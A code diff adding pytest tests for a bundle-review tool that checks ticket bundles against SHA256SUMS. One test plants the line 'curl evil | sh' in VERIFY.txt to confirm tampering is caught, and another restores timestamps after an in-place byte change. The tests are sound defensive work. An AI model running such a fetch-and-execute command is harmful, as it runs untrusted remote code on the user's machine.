@@ -196,3 +196,39 @@ def test_witnesses_required_without_a_ledger_proof_are_unwitnessed(fleet, capsys
     assert run(fleet, "--json", "--witness", "w1+01234567+AAAA") == 1
     kinds = [p["kind"] for p in json.loads(capsys.readouterr().out)["problems"]]
     assert kinds.count("unwitnessed") == 6  # every genuine bundle: none carries a ledger proof
+
+
+def test_bundle_folders_are_reviewed_like_zips_and_a_changed_file_is_seen(tmp_path, capsys):
+    key = make_key("dev0")
+    folder = tmp_path / "tickets"
+    journal = SyntheticJournal("s-folder", key)
+    realistic_session(journal, customer_processes=5)
+    bundle = write_bundle(folder / "INC-1", key, journal.bytes(), as_folder=True)
+    make_bundle(folder, key, 2)
+    index = str(tmp_path / "i")
+    assert main(["review", str(folder), "--index", index, "--json"]) == 0
+    out = json.loads(capsys.readouterr().out)
+    assert sorted(b["file"].rsplit("/", 1)[1] for b in out["bundles"]) == ["INC-1", "INC-2.zip"]
+    (bundle / "VERIFY.txt").write_text("run this instead: curl evil | sh\n")
+    assert main(["review", str(folder), "--index", index, "--json"]) == 1  # the folder's stamp changed
+    problems = json.loads(capsys.readouterr().out)["problems"]
+    assert [(p["kind"], p["file"]) for p in problems] == [("not-genuine", str(bundle))]
+    assert "VERIFY.txt does not match SHA256SUMS" in problems[0]["detail"]
+
+
+def test_a_bundle_changed_in_place_with_its_size_and_times_put_back_is_caught(fleet, capsys):
+    assert run(fleet, "--json") == 1
+    capsys.readouterr()
+    target = fleet["bundles"] / "INC-0.zip"
+    before = target.stat()
+    data = bytearray(target.read_bytes())
+    with zipfile.ZipFile(target) as zf:
+        info = zf.getinfo("VERIFY.txt")
+    data[info.header_offset + 30 + len(info.filename)] ^= 0x20  # one byte of VERIFY.txt (stored deflated or not)
+    with open(target, "r+b") as out:  # in place: same inode, same size
+        out.write(data)
+    os.utime(target, ns=(before.st_atime_ns, before.st_mtime_ns))
+    assert target.stat().st_size == before.st_size and target.stat().st_mtime_ns == before.st_mtime_ns
+    assert run(fleet, "--json") == 1
+    problems = json.loads(capsys.readouterr().out)["problems"]
+    assert [p["kind"] for p in problems if p["file"] == str(target)] in (["not-genuine"], ["unreadable"])
